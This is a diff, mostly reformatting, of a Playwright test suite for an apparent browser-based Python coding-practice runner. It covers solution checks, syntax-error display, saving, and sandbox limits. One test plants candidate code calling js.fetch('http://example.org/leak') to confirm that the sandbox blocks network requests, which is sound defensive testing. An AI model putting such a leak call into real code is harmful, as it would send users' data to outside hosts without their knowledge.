@@ -10,8 +10,7 @@ import functools
 import json
 import re
 import time
-from pathlib import Path
-from typing import Any, Iterator
+from typing import Any
 
 import pytest
 from playwright.sync_api import expect
@@ -59,7 +58,9 @@ def test_the_shown_solution_passes_every_case_the_runner_gives(pid: str):
     failed = [r for r in results if not r["pass"]]
     assert not failed, f"{pid}: the page's solution fails {failed[:2]}"
     examples = [c for c in data["context"]["cases"] if c["example"]]
-    assert len(examples) == data["visible"] == len(worked().problem(pid).examples), "the examples come first, shown while working"
+    assert len(examples) == data["visible"] == len(worked().problem(pid).examples), (
+        "the examples come first, shown while working"
+    )
     assert len(data["context"]["cases"]) > data["visible"], "further cases are drawn beyond the examples"
 
 
@@ -190,7 +191,9 @@ def test_stop_in_the_middle_of_a_run_ends_it_and_the_next_run_works(page, site_u
 def test_a_syntax_error_shows_its_line(page, site_url):
     pid = "count-subarrays-with-sum"
     open_editor(page, problem_url(site_url, pid))
-    set_code(page, "def count_subarrays_with_sum(nums, target):\n    total = 0\n    for n in nums\n        total += n\n")
+    set_code(
+        page, "def count_subarrays_with_sum(nums, target):\n    total = 0\n    for n in nums\n        total += n\n"
+    )
     page.get_by_role("button", name="Run the tests").click()
     expect(status(page)).to_contain_text("SyntaxError", timeout=90_000)
     expect(status(page)).to_contain_text("(line 3)")
@@ -210,7 +213,9 @@ def test_code_survives_a_reload(page, site_url):
 def test_a_full_storage_keeps_the_code_in_the_editor_and_says_so(page, site_url):
     pid = "count-subarrays-with-sum"
     open_editor(page, problem_url(site_url, pid))
-    page.evaluate("() => { Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }; }")
+    page.evaluate(
+        "() => { Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }; }"
+    )
     set_code(page, "def count_subarrays_with_sum(nums, target):\n    return 7\n")
     expect(page.locator("[data-runner=saved]")).to_contain_text("Not saved")
     expect(page.locator(".guide-runner .cm-content")).to_contain_text("return 7")
@@ -344,7 +349,10 @@ def test_the_candidates_code_has_no_network(page, site_url):
     asked: list[str] = []
     page.context.on("request", lambda r: asked.append(r.url))
     open_editor(page, problem_url(site_url, pid))
-    set_code(page, "import js\ndef count_subarrays_with_sum(nums, target):\n    js.fetch('http://example.org/leak')\n    return 0\n")
+    set_code(
+        page,
+        "import js\ndef count_subarrays_with_sum(nums, target):\n    js.fetch('http://example.org/leak')\n    return 0\n",
+    )
     page.get_by_role("button", name="Run the tests").click()
     expect(status(page)).to_contain_text("cases passed", timeout=90_000)
     expect(page.locator("[data-runner=results] tbody tr").first).to_contain_text("no network")
